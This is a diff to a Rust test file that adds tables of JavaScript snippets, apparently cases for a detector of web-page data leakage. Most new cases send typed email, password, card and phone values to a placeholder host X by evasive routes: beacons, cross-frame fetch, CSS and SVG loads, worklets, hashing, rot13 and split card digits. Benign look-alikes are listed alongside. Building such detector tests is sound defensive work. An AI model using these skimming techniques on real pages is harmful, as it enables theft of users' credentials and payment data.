@@ -127,8 +127,294 @@ pub const INNOCENT: &[Case] = &[
     case("a picture that is not loaded from anywhere", "new Image().src = 'data:text/plain,' + E"),
 ];
 
+/// Harder ones: requests that are made in unusual ways.
+pub const REQUESTS: &[Case] = &[
+    case("Request with another body", "fetch(new Request(X, post('nothing')), post(E))"),
+    case("Request, cloned", "fetch(new Request(X, post(E)).clone())"),
+    case("Request of a Request", "fetch(new Request(new Request(X, post(E))))"),
+    case("Request, header", "fetch(new Request(X, { headers: { 'x-a': btoa(E) } }))"),
+    case("URL object", "fetch(new URL(X + '?e=' + pct(E)))"),
+    case(
+        "stream",
+        "fetch(X, streams ? { method: 'POST', body: new Blob([E]).stream(), duplex: 'half' } : post(E))",
+    ),
+    case("method", "fetch(X, { method: hex(L) })"),
+    case(
+        "multipart by hand",
+        r#"fetch(X, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=xx' }, body: '--xx\r\nContent-Disposition: form-data; name="m"\r\n\r\n' + E + '\r\n--xx--\r\n' })"#,
+    ),
+    case(
+        "GraphQL",
+        "fetch(X, post(JSON.stringify({ query: 'mutation A($e: String!) { a(e: $e) { id } }', variables: { e: E } })))",
+    ),
+    case(
+        "protobuf",
+        "fetch(X, post(Uint8Array.of(8, 1, 18, E.length, ...new TextEncoder().encode(E), 24, 0)))",
+    ),
+    case(
+        "MessagePack",
+        "fetch(X, post(Uint8Array.of(129, 161, 101, 160 + E.length, ...new TextEncoder().encode(E))))",
+    ),
+    case(
+        "a part of a buffer",
+        "{ const all = new TextEncoder().encode('xxxx' + E + 'yyyy'); fetch(X, post(all.subarray(4, 4 + E.length))); }",
+    ),
+    case(
+        "FormData in a beacon",
+        "{ const d = new FormData(); d.append('e', E); navigator.sendBeacon(X, d); }",
+    ),
+    case(
+        "a file in FormData",
+        "{ const d = new FormData(); d.append('f', new File([E], 'a.txt')); fetch(X, post(d)); }",
+    ),
+    case(
+        "a file's name",
+        "{ const d = new FormData(); d.append('f', new File(['x'], E)); fetch(X, post(d)); }",
+    ),
+    case("URLSearchParams in a beacon", "navigator.sendBeacon(X, new URLSearchParams({ e: E }))"),
+    case("bytes in a beacon", "navigator.sendBeacon(X, new TextEncoder().encode(E).buffer)"),
+    case("beacon by the prototype", "Navigator.prototype.sendBeacon.call(navigator, X, E)"),
+    case("fetch by Reflect", "Reflect.apply(fetch, undefined, [X, post(E)])"),
+    case("XHR, document", "xhr(X, new DOMParser().parseFromString('<a>' + E + '</a>', 'text/xml'))"),
+    case("XHR, user name", "{ const r = new XMLHttpRequest(); r.open('POST', X, true, L, 'x'); r.send(); }"),
+    case("XHR, method", "{ const r = new XMLHttpRequest(); r.open(hex(L), X); r.send(); }"),
+    case(
+        "XHR, synchronous",
+        "{ const r = new XMLHttpRequest(); r.open('POST', X, false); try { r.send(E); } catch {} }",
+    ),
+    case("WebSocket, protocol", "new WebSocket(X.replace('http', 'ws'), [hex(L)])"),
+    case("WebSocket, Blob", "new WebSocket(X.replace('http', 'ws')).send(new Blob([E]))"),
+    case("EventSource, plain", "new EventSource(X + '?e=' + pct(E))"),
+    case("another window's fetch", "frame().fetch(X, post(E))"),
+    case(
+        "another window's FormData",
+        "{ const d = new (frame().FormData)(); d.append('e', E); fetch(X, post(d)); }",
+    ),
+    case("another window's Blob", "fetch(X, post(new (frame().Blob)([E])))"),
+    case("another window's beacon", "frame().navigator.sendBeacon(X, E)"),
+    case(
+        "another window's XHR",
+        "{ const r = new (frame().XMLHttpRequest)(); r.open('POST', X); r.send(E); }",
+    ),
+    case(
+        "another window's submit",
+        "{ const { prototype } = frame().HTMLFormElement; prototype.submit.call(formTo(X, { c: C })); }",
+    ),
+];
+
+/// Harder ones: what elements load, and the page going elsewhere.
+pub const ELEMENTS: &[Case] = &[
+    case("srcset", "new Image().srcset = X + '?e=' + pct(E) + ' 2x'"),
+    case(
+        "source of a picture",
+        "box().innerHTML = '<picture><source srcset=\"' + X + '?e=' + pct(E) + '\"><img></picture>'",
+    ),
+    case(
+        "preconnect, host",
+        "{ const l = document.createElement('link'); l.rel = 'preconnect'; l.href = X.replace('//', '//' + hex(L) + '.'); document.head.append(l); }",
+    ),
+    case(
+        "template",
+        "{ const t = document.createElement('template'); t.innerHTML = '<img src=\"' + X + '?e=' + pct(E) + '\">'; box().append(t.content.cloneNode(true)); }",
+    ),
+    case(
+        "DOMParser",
+        "box().append(new DOMParser().parseFromString('<img src=\"' + X + '?e=' + pct(E) + '\">', 'text/html').body.firstChild)",
+    ),
+    case(
+        "fragment",
+        "box().append(document.createRange().createContextualFragment('<img src=\"' + X + '?e=' + pct(E) + '\">'))",
+    ),
+    case(
+        "insertAdjacentHTML",
+        "box().insertAdjacentHTML('beforeend', '<img src=\"' + X + '?e=' + pct(E) + '\">')",
+    ),
+    case("outerHTML", "box().outerHTML = '<img src=\"' + X + '?e=' + pct(E) + '\">'"),
+    case("setHTMLUnsafe", "box().setHTMLUnsafe('<img src=\"' + X + '?e=' + pct(E) + '\">')"),
+    case("style.background", "box().style.background = 'url(' + X + '?' + pct(E) + ')'"),
+    case("cssText", "box().style.cssText = 'background: url(' + X + '?' + pct(E) + ')'"),
+    case("style attribute", "box().setAttribute('style', 'background: url(' + X + '?' + pct(E) + ')')"),
+    case(
+        "@import",
+        "{ const s = document.createElement('style'); s.textContent = '@import \"' + X + '?' + hex(E) + '\";'; document.head.append(s); }",
+    ),
+    case("image-set", "box().style.cssText = 'background: image-set(\"' + X + '?' + hex(E) + '\" 1x)'"),
+    case("FontFace", "new FontFace('x', 'url(' + X + '?' + hex(E) + ')').load().catch(() => {})"),
+    case(
+        "adopted style sheet",
+        "{ const s = new CSSStyleSheet(); s.replaceSync('h1 { background: url(' + X + '?' + hex(E) + ') }'); document.adoptedStyleSheets.push(s); }",
+    ),
+    case("poster", "document.createElement('video').poster = X + '?e=' + pct(E)"),
+    case("Audio", "new Audio(X + '?e=' + pct(E))"),
+    case(
+        "object",
+        "{ const o = document.createElement('object'); o.data = X + '?e=' + pct(E); box().append(o); }",
+    ),
+    case(
+        "embed",
+        "{ const o = document.createElement('embed'); o.src = X + '?e=' + pct(E); box().append(o); }",
+    ),
+    case("SVG image, attribute", "svgImage().setAttribute('href', X + '?e=' + pct(E))"),
+    case(
+        "SVG image, with a namespace",
+        "svgImage().setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', X + '?e=' + pct(E))",
+    ),
+    case("SVG image, property", "svgImage().href.baseVal = X + '?e=' + pct(E)"),
+    case(
+        "attribute node",
+        "{ const a = document.createAttribute('src'); a.value = X + '?e=' + pct(E); new Image().setAttributeNode(a); }",
+    ),
+    case(
+        "attribute node in the map",
+        "{ const a = document.createAttribute('src'); a.value = X + '?e=' + pct(E); new Image().attributes.setNamedItem(a); }",
+    ),
+    case(
+        "attribute's value",
+        "{ const i = new Image(); i.setAttribute('src', 'data:,'); i.attributes.src.value = X + '?e=' + pct(E); }",
+    ),
+    case(
+        "an attribute with a style's address",
+        "svgImage().setAttribute('mask', 'url(' + X + '?e=' + pct(E) + '#m)')",
+    ),
+    case(
+        "worklet",
+        "new OfflineAudioContext(1, 1, 44100).audioWorklet?.addModule(X + '?e=' + pct(E)).catch(() => {})",
+    ),
+    case("location.replace", "location.replace(X + '?e=' + pct(E))"),
+    case("location.assign", "location.assign(X + '?e=' + hex(E))"),
+    case(
+        "a download",
+        "{ const a = document.createElement('a'); a.href = X + '?e=' + pct(E); a.download = ''; box().append(a); a.click(); }",
+    ),
+    case(
+        "a link to another window",
+        "{ const a = document.createElement('a'); a.href = X + '?e=' + pct(E); a.target = '_blank'; box().append(a); a.click(); }",
+    ),
+    case("a form by GET", "{ const f = formTo(X, { e: E }); f.method = 'get'; f.requestSubmit(); }"),
+    case(
+        "a button's own address",
+        "{ const f = formTo('/receive/x', { e: E }), b = document.createElement('button'); b.formAction = X; f.append(b); f.requestSubmit(b); }",
+    ),
+];
+
+/// Harder ones: wire formats of services, and other ways to write it.
+pub const CODES: &[Case] = &[
+    case(
+        "GA4, user data",
+        "fetch(X + '/g/collect?v=2&tid=G-1&em=' + sha256L.slice(0, 64) + '&en=form_start')",
+    ),
+    case(
+        "a pixel, advanced matching",
+        "new Image().src = X + '?id=1&ev=PageView&ud%5Bem%5D=' + sha256L + '&ud%5Bfn%5D=x'",
+    ),
+    case(
+        "a batch of events",
+        "navigator.sendBeacon(X, JSON.stringify({ batch: [{ type: 'identify', traits: { email: L } }], sentAt: 1 }))",
+    ),
+    case("data=base64 of JSON", "xhr(X, 'data=' + pct(btoa(JSON.stringify({ properties: { $email: E } }))))"),
+    case(
+        "an envelope of lines",
+        r"fetch(X, post('{}\n{}\n' + JSON.stringify({ request: { data: 'email=' + pct(E) } })))",
+    ),
+    case("a replay, packed", "fetch(X, post(zippedReplay))"),
+    case("sha512", "fetch(X + '?h=' + sha512L)"),
+    case("sha384 in base64url", "fetch(X + '?h=' + sha384L)"),
+    case("sha256 of sha256", "fetch(X + '?h=' + sha256Twice)"),
+    case("sha256 of the address in upper case", "fetch(X + '?h=' + sha256Upper)"),
+    case("upper case", "fetch(X + '?e=' + pct(E.toUpperCase()))"),
+    case("without the tag", "fetch(X + '?e=jane.doe%40gmail.com')"),
+    case("the phone's digits", "fetch(X + '?t=' + digits(T))"),
+    case("the phone as at home", "fetch(X + '?t=015123456789')"),
+    case(
+        "rot13",
+        "fetch(X, post(E.replace(/[a-z]/gi, c => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt() + 13) ? c : c - 26))))",
+    ),
+    case("numbers of characters", "fetch(X, post(JSON.stringify([...E].map(c => c.charCodeAt()))))"),
+    case("entities", "fetch(X, post([...E].map(c => '&#' + c.charCodeAt() + ';').join('')))"),
+    case("hex with spaces", "fetch(X, post(hex(E).replace(/../g, '$& ')))"),
+    case(
+        "base64 in a JWT",
+        "fetch(X + '?t=eyJhbGciOiJub25lIn0.' + b64url(JSON.stringify({ sub: E })) + '.')",
+    ),
+    case("percent, base64, JSON, base64", "fetch(X + '?d=' + pct(btoa(JSON.stringify({ d: btoa(E) }))))"),
+    case(
+        "the card in two parts",
+        "fetch(X, post(JSON.stringify({ a: digits(C).slice(0, 8), b: digits(C).slice(8) })))",
+    ),
+    case("the name by its parts", "fetch(X, post(JSON.stringify({ firstName: 'Jane', lastName: 'Doe' })))"),
+    case("the password, reversed in base64", "fetch(X, post(btoa([...P].reverse().join(''))))"),
+];
+
+/// More that is innocent.
+pub const HARMLESS: &[Case] = &[
+    case(
+        "GA4, a page view",
+        "fetch(X + '/g/collect?v=2&tid=G-ABC123&gtm=45je4&_p=1737936004123&cid=1234567890.1737936004&ul=en-us&sr=1920x1080&_s=1&sid=1737936004&sct=1&seg=1&dl=' + pct(location.href) + '&dt=Order&en=page_view&_ee=1')",
+    ),
+    case(
+        "Matomo, a page view",
+        "navigator.sendBeacon(X, 'action_name=Order&idsite=1&rec=1&r=737004&h=12&m=7&s=37&_id=9f86d081884c7d65&send_image=0')",
+    ),
+    case(
+        "an error report without values",
+        r#"fetch(X, post('{"event_id":"fc6d8c0c43fc4630ad850ee518f1b9d0","sent_at":"2026-11-20T10:00:00Z"}\n{"type":"event"}\n' + JSON.stringify({ exception: { values: [{ type: 'TypeError', value: 'x is undefined', stacktrace: { frames: [{ filename: 'app.js', lineno: 737 }] } }] } })))"#,
+    ),
+    case(
+        "web vitals",
+        "navigator.sendBeacon(X, JSON.stringify({ name: 'LCP', value: 2411.11, rating: 'good', id: 'v4-1737936004123-4111111' }))",
+    ),
+    case("tiles of a map", "new Image().src = X + '/tiles/14/8802/5373.png?v=411111'"),
+    case("a captcha's token", "fetch(X, post('h-captcha-response=' + noise(2400)))"),
+    case(
+        "movements of a pointer",
+        "fetch(X, post(JSON.stringify({ motion: Array.from({ length: 800 }, (_, i) => [i * 7 % 1280, i * 37 % 720, 1737936004000 + i * 16]) })))",
+    ),
+    case("what is searched for at home", "fetch('/receive/suggest?q=' + pct('Jane D'))"),
+    case("an upload of 700 KB", "fetch(X, post(bytes(700_000)))"),
+    case(
+        "a socket's heartbeat",
+        "{ const s = new WebSocket(X.replace('http', 'ws')); for (let i = 0; i < 20; i++) s.send(JSON.stringify({ type: 'ping', n: i })); }",
+    ),
+    case(
+        "a style sheet",
+        "{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = X + '/css2?family=Inter:wght@400;700&display=swap'; document.head.append(l); }",
+    ),
+    case("another Jane", "new Image().src = X + '/covers/jane-austen-emma.jpg'"),
+    case("a country's code", "fetch(X + '?prefix=%2B49&country=DE')"),
+    case(
+        "a consent string",
+        "fetch(X + '?gdpr=1&gdpr_consent=CPXxRfAPXxRfAAfKABENB-CgAAAAAAAAAAYgAAAAAAAA')",
+    ),
+    case(
+        "prices and sizes",
+        "fetch(X, post(JSON.stringify({ cart: [{ sku: '4111-1111', price: 151.23, qty: 7 }], total: 737 })))",
+    ),
+    case(
+        "a page of HTML",
+        "box().innerHTML = '<p>Jane Eyre, by e-mail</p><img src=\"' + X + '/cover.png?w=411&h=111\">'",
+    ),
+    case(
+        "a frame with a script of its own",
+        "{ const f = document.createElement('iframe'); f.srcdoc = '<script>parent.x = 1<' + '/script>'; box().append(f); }",
+    ),
+    case(
+        "a preview in a frame",
+        "{ const f = document.createElement('iframe'); f.srcdoc = '<p>Dear ' + E + '</p>'; box().append(f); }",
+    ),
+    case(
+        "a download made here",
+        "{ const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([E])); a.download = 'a.txt'; box().append(a); a.click(); }",
+    ),
+    case(
+        "a worker for sums",
+        "new Worker(URL.createObjectURL(new Blob(['onmessage = () => {}']))).postMessage({ sum: [1, 2, 3], text: 'nothing' })",
+    ),
+    case("a scheduler's message", "new MessageChannel().port1.postMessage(E)"),
+    case("a class of SVG", "svgImage().className.baseVal = 'jane doe'"),
+];
+
 /// What is typed into which field.
-const TYPED: &[(&str, &str)] = &[
+pub const TYPED: &[(&str, &str)] = &[
     ("email", "Jane.Doe+shop@gmail.com"),
     ("card", "4111 1111 1111 1111"),
     ("password", "hunter2Zq!9"),
